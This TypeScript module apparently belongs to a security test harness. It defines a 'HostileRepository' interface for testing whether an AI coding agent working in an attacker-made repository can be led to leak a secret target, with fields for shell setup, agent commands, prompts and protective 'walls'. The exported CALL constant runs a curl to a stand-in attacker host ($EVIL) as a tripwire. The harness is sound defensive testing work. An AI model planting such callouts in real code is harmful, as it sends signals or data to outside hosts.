import type { Place } from '../canaries.js';
import type { Wall } from '../walls.js';

/** A repository as a stranger might have written it, or made it out of their tree: and a job that works on it. */
export interface HostileRepository {
  readonly name: string;
  /** What it is after, where that is a secret. */
  readonly target?: Place;
  /** For sh in a fresh clone, with the variables of the battlefield: what is committed and pushed before the job begins. */
  readonly content?: string;
  /** For sh in the bare repository at the forge, after that: what no `git commit` makes. */
  readonly forge?: string;
  /** For sh in the working tree, run by the agent. */
  readonly agent?: string;
  /** Part of the prompt; default: something harmless. */
  readonly prompt?: string;
  readonly branchName?: string;
  /** Default: a code job. */
  readonly jobType?: 'ralph';
  /** How the job must end: with work that is published, or with a sentence that matches. */
  readonly ends: 'published' | RegExp;
  /** Paths that the published branch must have; a value: their content, `link` for a symbolic link. */
  readonly holds?: Readonly<Record<string, string>>;
  /** Paths that it must not have. */
  readonly lacks?: readonly string[];
  /** Not only where nothing but the server's own care protects it, but behind a wall as well: who owns files matters. */
  readonly everywhere?: true;
  /** The weakest wall that keeps the target from the model's requests; default: none is needed. */
  readonly heldFrom?: Wall;
}

/** Runs when something of the repository is executed by somebody who should not: leaves a mark, calls the attacker's host. */
export const CALL = 'touch $MARK; curl -s $EVIL/$SLUG';
